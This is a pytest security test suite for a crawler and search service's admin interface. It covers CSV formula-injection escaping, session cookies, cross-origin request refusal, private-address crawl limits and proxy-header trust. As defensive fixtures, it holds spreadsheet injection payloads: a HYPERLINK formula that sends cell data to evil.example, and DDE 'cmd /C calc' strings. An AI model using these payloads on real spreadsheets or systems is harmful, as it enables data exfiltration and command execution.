"""The admin surface under attack and under bad input (issue 18): each test here was
written against a finding that a hostile client, page or site could use."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from fixture_sites import Route, SiteServer, html_page, trawl
from service_fixtures import crawl_site, new_key, service_settings, site_routes, target
from trawl.records import HeaderCheck, ResourceCheck
from trawl.server.app import create_app
from trawl.server.auth import COOKIE
from trawl.settings import Settings
from trawl.store.sqlite import SQLiteStore

Serve = Callable[..., SiteServer]
DEEP = "(" * 330 + "heron" + ")" * 330


class Service:
    def __init__(self, client: TestClient, key: str, settings: Settings, site: SiteServer):
        self.client = client
        self.key = key
        self.settings = settings
        self.site = site

    def admin(self, method: str, path: str, **kwargs: Any) -> Any:
        headers = {"X-API-Key": self.key, **kwargs.pop("headers", {})}
        return self.client.request(method, path, headers=headers, **kwargs)


def _service(serve: Serve, tmp_path: Path, routes: dict[str, Route], **settings: Any) -> Service:
    site = serve(routes)
    config = service_settings(tmp_path, **settings)
    crawl_site(site, config)
    return Service(TestClient(create_app(config)), new_key(config), config, site)


@pytest.fixture
def service(serve: Serve, tmp_path: Path) -> Iterator[Service]:
    found = _service(serve, tmp_path, site_routes())
    with found.client:
        yield found


# -- bad input, no 500 ------------------------------------------------------------


def test_deeply_nested_parentheses_are_searched_as_words(service: Service) -> None:
    api = service.client.get("/api/search", params={"q": DEEP})
    assert api.status_code == 200, api.text
    assert any("herons" in r["url"] for r in api.json()["results"])
    page = service.client.get("/", params={"q": DEEP})
    assert page.status_code == 200 and 'class="result"' in page.text

    cli = trawl("search", DEEP, "--data", str(service.settings.data))
    assert cli.returncode == 0 and "Grey herons" in cli.stdout, cli.stderr


@pytest.mark.parametrize("number", ["²", "①", "٣", "-1", "0", "1e3", " 2", "0001"])
def test_a_page_number_that_is_no_ascii_integer_reads_as_the_first_page(
    service: Service, number: str
) -> None:
    response = service.client.get("/", params={"q": "heron", "page": number})
    assert response.status_code == 200
    assert 'class="result"' in response.text


@pytest.mark.parametrize("number", ["5" * 5000, "9" * 12, "1001"])
def test_a_page_number_past_the_last_allowed_is_clamped(service: Service, number: str) -> None:
    response = service.client.get("/", params={"q": "heron", "page": number})
    assert response.status_code == 200
    assert 'start="19981"' in response.text  # page 1000 of 20 results each


# -- CSV exports do not carry formulas -----------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _formula_site() -> dict[str, Route]:
    home = (
        '<a href="/a">@SUM(A1:A9)</a> <a href="http://10.255.255.1:9/x">-2+3</a>'
        ' <img src="/pixel.png" alt="">'
    )
    return {
        "/": html_page(FORMULA_TITLE, home),
        "/a": html_page("+cmd|' /C calc'!A0", "<p>a page</p>"),
        "/pixel.png": Route(b"\x89PNG\r\n", headers={"Content-Type": "image/png"}),
    }


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_exports_neutralise_formula_cells(serve: Serve, tmp_path: Path) -> None:
    service = _service(serve, tmp_path, _formula_site(), resource_checks=10)
    home, other, pixel = (service.site.url(p) for p in ("/", "/a", "/pixel.png"))
    with service.client:
        store = SQLiteStore(service.settings.sqlite_path)
        store.save_header_checks(
            [HeaderCheck("http://10.255.255.1:9/x", 302, "=cmd|' /C calc'!A0", (), "@x", 0.0)]
        )
        store.save_resources([ResourceCheck(pixel, 200, "\t=1+1", 6, "\r=2", 0.0)])
        store.close()

        pages = _csv(service.admin("GET", "/api/admin/report/pages.csv"))
        titles = {r["url"]: r["title"] for r in pages}
        assert titles[home] == "'" + FORMULA_TITLE
        assert titles[other] == "'+cmd|' /C calc'!A0"
        _no_formula(pages)

        links = _csv(service.admin("GET", "/api/admin/report/links.csv", params={"url": home}))
        anchors = {r["url"]: r["anchor"] for r in links}
        assert anchors[other] == "'@SUM(A1:A9)" and anchors["http://10.255.255.1:9/x"] == "'-2+3"
        _no_formula(links)
        inbound = service.admin(
            "GET", "/api/admin/report/links.csv", params={"url": other, "direction": "in"}
        )
        _no_formula(_csv(inbound))

        external = _csv(service.admin("GET", "/api/admin/report/external.csv"))
        assert external[0]["location"] == "'=cmd|' /C calc'!A0" and external[0]["error"] == "'@x"
        _no_formula(external)

        resources = _csv(service.admin("GET", "/api/admin/report/resources.csv"))
        row = next(r for r in resources if r["url"] == pixel)
        assert row["content_type"] == "'\t=1+1" and row["error"] == "'\r=2"
        _no_formula(resources)
        _no_formula(_csv(service.admin("GET", "/api/admin/crawls.csv")))


# -- sessions --------------------------------------------------------------------------


def _login(client: TestClient, key: str, origin: str = "http://testserver") -> Any:
    return client.post(
        "/admin/login", data={"key": key}, headers={"Origin": origin}, follow_redirects=False
    )


def _sessions(settings: Settings) -> list[tuple[Any, ...]]:
    db = sqlite3.connect(settings.sqlite_path)
    try:
        return [tuple(r) for r in db.execute("SELECT digest, key_id, expires_at FROM sessions")]
    finally:
        db.close()


def test_login_cookie_is_a_session_token_not_the_key(service: Service) -> None:
    response = _login(service.client, service.key)
    assert response.status_code == 303
    cookie = response.headers["set-cookie"]
    token = service.client.cookies[COOKIE]
    assert token != service.key and service.key not in cookie
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/" in cookie
    assert "Secure" not in cookie  # plain HTTP: a Secure cookie would never come back
    (stored,) = _sessions(service.settings)
    assert stored[0] == hashlib.sha256(token.encode()).hexdigest()  # only its digest is kept
    assert stored[2] <= time.time() + service.settings.session_hours * 3600 + 5
    assert service.client.get("/admin", follow_redirects=False).status_code == 200


def test_over_https_the_cookie_is_secure_with_the_host_prefix(service: Service) -> None:
    with TestClient(service.client.app, base_url="https://testserver") as client:
        response = _login(client, service.key, "https://testserver")
        cookie = response.headers["set-cookie"]
        assert cookie.startswith("__Host-trawl_session=") and "Secure" in cookie
        assert client.get("/admin", follow_redirects=False).status_code == 200
        # The plain name is not read over HTTPS: a sibling host could have set it.
        client.cookies.set(COOKIE, client.cookies["__Host-trawl_session"])
        del client.cookies["__Host-trawl_session"]
        assert client.get("/admin", follow_redirects=False).status_code == 303


def test_logout_ends_the_session_on_the_server(service: Service) -> None:
    _login(service.client, service.key)
    token = service.client.cookies[COOKIE]
    out = service.client.post(
        "/admin/logout", headers={"Origin": "http://testserver"}, follow_redirects=False
    )
    assert out.status_code == 303 and _sessions(service.settings) == []
    # The old cookie, replayed (copied before logout), opens nothing.
    service.client.cookies.set(COOKIE, token)
    assert service.client.get("/admin", follow_redirects=False).status_code == 303
    assert service.client.get("/api/admin/sites").status_code == 401


def test_an_expired_session_or_a_revoked_key_opens_nothing(service: Service) -> None:
    _login(service.client, service.key)
    db = sqlite3.connect(service.settings.sqlite_path)
    db.execute("UPDATE sessions SET expires_at = ?", (time.time() - 1,))
    db.commit()
    assert service.client.get("/api/admin/sites").status_code == 401
    _login(service.client, service.key)
    assert service.client.get("/api/admin/sites").status_code == 200
    key_id = db.execute("SELECT id FROM api_keys").fetchone()[0]
    db.close()
    assert service.admin("DELETE", f"/api/admin/keys/{key_id}").status_code == 200
    assert service.client.get("/api/admin/sites").status_code == 401
    assert _sessions(service.settings) == []


# -- cross-site requests -----------------------------------------------------------------


def _pages(service: Service) -> int:
    total: int = service.admin("GET", "/api/admin/report/pages").json()["total"]
    return total


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://testserver:8081"},  # another port of the same host
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Referer": "http://testserver:8081/attack.html"},
        {},  # a cookie came with it, so a browser sent it, and browsers name the page
    ],
)
def test_cookie_authenticated_api_changes_need_this_server_s_origin(
    service: Service, headers: dict[str, str]
) -> None:
    _login(service.client, service.key)
    before = _pages(service)
    response = service.client.post("/api/admin/evict", params={"dry_run": "false"}, headers=headers)
    assert response.status_code == 403 and "another site or port" in response.json()["error"]
    assert _pages(service) == before
    added = service.client.post("/api/admin/sites", json={"url": "https://forged.example/"},
                                headers=headers)  # fmt: skip
    assert added.status_code == 403
    # Reading with the cookie is fine (the admin page polls progress that way).
    assert service.client.get("/api/admin/crawls/current", headers=headers).status_code == 200


def test_the_server_s_own_pages_and_key_holders_may_change_state(service: Service) -> None:
    _login(service.client, service.key)
    own = service.client.post(
        "/api/admin/evict", headers={"Origin": "http://testserver"}, params={"dry_run": "true"}
    )
    assert own.status_code == 200
    service.client.cookies.clear()
    keyed = service.admin("POST", "/api/admin/evict", headers={"Origin": "http://evil.example"})
    assert keyed.status_code == 200  # a header a browser never adds by itself


# -- what a key holder may make the server crawl ---------------------------------------------


def test_an_api_crawl_reaches_a_private_address_only_when_listed(
    serve: Serve, tmp_path: Path
) -> None:
    internal = serve({"/": html_page("Payroll", "<p>salaries of everyone</p>")})
    service = _service(serve, tmp_path, site_routes())
    with service.client:
        started = service.admin("POST", "/api/admin/crawls", json={"urls": [internal.url("/")]})
        assert started.status_code == 202
        status = _wait_for_crawl(service)
        assert status["crawled"] == 0 or status["errors"] >= 1, status
        assert service.client.get("/api/search", params={"q": "salaries"}).json()["total"] == 0
        assert internal.requests == []  # nothing reached it, robots.txt included

    listed = service.settings.replace(admin_allow_hosts=target(internal))
    with TestClient(create_app(listed)) as client:
        keyed = {"X-API-Key": service.key}
        body = {"urls": [internal.url("/")]}
        assert client.post("/api/admin/crawls", json=body, headers=keyed).status_code == 202
        _wait_for_crawl(Service(client, service.key, listed, service.site))
        assert client.get("/api/search", params={"q": "salaries"}).json()["total"] == 1


def _wait_for_crawl(service: Service) -> dict[str, Any]:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        status: dict[str, Any] = service.admin("GET", "/api/admin/crawls/current").json()
        if not status["running"]:
            return status
        time.sleep(0.1)
    raise AssertionError("the crawl did not end")


def test_metrics_and_search_can_require_a_key(serve: Serve, tmp_path: Path) -> None:
    service = _service(
        serve, tmp_path, site_routes(), metrics_requires_key=True, search_requires_key=True
    )
    with service.client as client:
        assert client.get("/metrics").status_code == 401
        assert service.admin("GET", "/metrics").status_code == 200
        assert client.get("/api/search", params={"q": "heron"}).status_code == 401
        assert service.admin("GET", "/api/search", params={"q": "heron"}).status_code == 200
        page = client.get("/", params={"q": "heron"}, follow_redirects=False)
        assert page.status_code == 303 and page.headers["location"] == "/admin/login"
        _login(client, service.key)
        assert client.get("/", params={"q": "heron"}).status_code == 200
        searcher = client.post(
            "/api/admin/keys",
            json={"name": "reader", "scopes": ["search"]},
            headers={"X-API-Key": service.key},
        ).json()["key"]
        reader = {"X-API-Key": searcher}
        assert client.get("/api/search", params={"q": "heron"}, headers=reader).status_code == 200
        assert client.get("/metrics", headers=reader).status_code == 403
        assert client.get("/api/admin/sites", headers=reader).status_code == 403


def test_the_admin_page_creates_a_key_shows_it_once_and_revokes_it(service: Service) -> None:
    own = {"Origin": "http://testserver"}
    _login(service.client, service.key)
    made = service.client.post(
        "/admin/keys",
        data={"name": "feed reader", "scope": ["search"], "expires_days": "7"},
        headers=own,
    )
    assert made.status_code == 200 and made.headers["cache-control"] == "no-store"
    shown = re.search(r'id="new-key".*?<code>(trawl_[^<]+)</code>', made.text, re.S)
    assert shown is not None
    key = shown.group(1)
    page = service.client.get("/admin").text
    assert key not in page and "feed reader" in page  # listed by name, never again by value
    listed = {k["name"]: k for k in service.admin("GET", "/api/admin/keys").json()}
    assert listed["feed reader"]["scopes"] == ["search"] and listed["feed reader"]["expires_at"]
    reader = {"X-API-Key": key}
    assert service.client.get("/api/admin/sites", headers=reader).status_code == 403

    revoked = service.client.post(
        f"/admin/keys/{listed['feed reader']['id']}/revoke", headers=own, follow_redirects=False
    )
    assert revoked.status_code == 303 and "revoked" in revoked.headers["location"]
    assert service.client.get("/api/admin/sites", headers=reader).status_code == 401


# -- proxies and the public address ------------------------------------------------------------


def test_opensearch_urls_come_from_public_url_not_the_host_header(
    serve: Serve, tmp_path: Path
) -> None:
    service = _service(serve, tmp_path, site_routes(), public_url="https://search.example.org")
    with service.client as client:
        body = client.get("/opensearch.xml", headers={"Host": "evil.example"}).text
    assert 'template="https://search.example.org/?q={searchTerms}"' in body
    assert "evil.example" not in body


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


def _serve_cli(tmp_path: Path, **env: str) -> Iterator[str]:
    """``trawl serve`` in a child process, as an operator starts it."""
    port = _free_port()
    # No search workers: these tests are about HTTP, and spawning them costs seconds.
    environ = {**os.environ, "TRAWL_DATA": str(tmp_path), "TRAWL_PORT": str(port)}
    environ.update({"TRAWL_SEARCH_WORKERS": "0", **env})
    child = subprocess.Popen(
        [sys.executable, "-m", "trawl", "serve"],
        env=environ,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(base + "/healthz", timeout=2).close()
                break
            except OSError:
                assert time.monotonic() < deadline, "trawl serve did not start"
                time.sleep(0.2)
        yield base
    finally:
        child.terminate()
        child.wait(10)


def _statuses(base: str, count: int | list[str]) -> list[int]:
    """Searches from this one client, each claiming another address (``count`` of them,
    or the addresses given)."""
    claimed = count if isinstance(count, list) else [f"203.0.113.{n}" for n in range(count)]
    found = []
    for address in claimed:
        request = urllib.request.Request(
            base + "/api/search?q=heron", headers={"X-Forwarded-For": address}
        )
        try:
            with urllib.request.urlopen(request, timeout=10) as answer:
                found.append(answer.status)
        except urllib.error.HTTPError as e:
            found.append(e.code)
    return found


def test_forwarded_for_is_believed_only_from_trusted_proxies(tmp_path: Path) -> None:
    limit = {"TRAWL_SEARCH_RATE_LIMIT": "5/minute"}
    for base in _serve_cli(tmp_path / "direct", **limit):
        # The peer (loopback, as a local proxy would be) is not listed: it is the client.
        assert _statuses(base, 8).count(429) == 3
    for base in _serve_cli(tmp_path / "proxied", TRAWL_TRUSTED_PROXIES="127.0.0.1", **limit):
        # Listed: each forwarded client is counted on its own.
        assert 429 not in _statuses(base, 8)


def _refused(base: str, addresses: list[str]) -> list[bool]:
    return [status == 429 for status in _statuses(base, addresses)]


def test_one_ipv6_64_shares_one_search_limit(tmp_path: Path) -> None:
    """Anyone holding a /64 holds 2**64 addresses: counted one by one, they are unlimited."""
    limit = {"TRAWL_SEARCH_RATE_LIMIT": "3/minute", "TRAWL_TRUSTED_PROXIES": "127.0.0.1"}
    for base in _serve_cli(tmp_path, **limit):
        same_64 = [f"2001:db8:1:2::{n:x}" for n in range(1, 5)]
        assert _refused(base, same_64) == [False, False, False, True]
        # Another /64 of the same /48 is another client.
        assert _refused(base, ["2001:db8:1:3::1"]) == [False]
        # An IPv4 client is counted the same however it is written.
        mapped = ["198.51.100.7", "::ffff:198.51.100.7", "198.51.100.7", "::ffff:c633:6407"]
        assert _refused(base, mapped) == [False, False, False, True]


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: Any) -> None:
        return None


def _login_cookie(base: str, key: str, proto: str) -> str:
    """The Set-Cookie of a login made through a proxy that says the client used ``proto``."""
    request = urllib.request.Request(
        base + "/admin/login",
        data=urllib.parse.urlencode({"key": key}).encode(),
        headers={"X-Forwarded-Proto": proto, "Origin": f"{proto}://{base.split('://')[1]}"},
    )
    try:
        urllib.request.build_opener(_NoRedirect).open(request, timeout=10)
    except urllib.error.HTTPError as e:
        assert e.code == 303, e.read()
        return str(e.headers["set-cookie"])
    raise AssertionError("the login did not redirect")


def test_behind_a_trusted_tls_proxy_the_session_cookie_is_secure(tmp_path: Path) -> None:
    key = new_key(service_settings(tmp_path))
    for base in _serve_cli(tmp_path, TRAWL_TRUSTED_PROXIES="127.0.0.0/8"):
        cookie = _login_cookie(base, key, "https")
        assert cookie.startswith("__Host-trawl_session=") and "Secure" in cookie
    for base in _serve_cli(tmp_path):
        # Not trusted: the header is the client's word, and the cookie stays plain.
        cookie = _login_cookie(base, key, "https")
        assert cookie.startswith("trawl_session=") and "Secure" not in cookie


@pytest.mark.parametrize("origin", ["http://[", "//[x]", "http://testserver\x00"])
def test_a_malformed_origin_is_refused_not_a_500(service: Service, origin: str) -> None:
    _login(service.client, service.key)
    for name in ("Origin", "Referer"):
        response = service.client.post("/api/admin/evict", headers={name: origin})
        assert response.status_code == 403, response.text
        form = service.client.post("/admin/crawl/stop", headers={name: origin})
        assert form.status_code == 403
    login = service.client.post(
        "/admin/login", data={"key": service.key}, headers={"Origin": origin}
    )
    assert login.status_code == 403
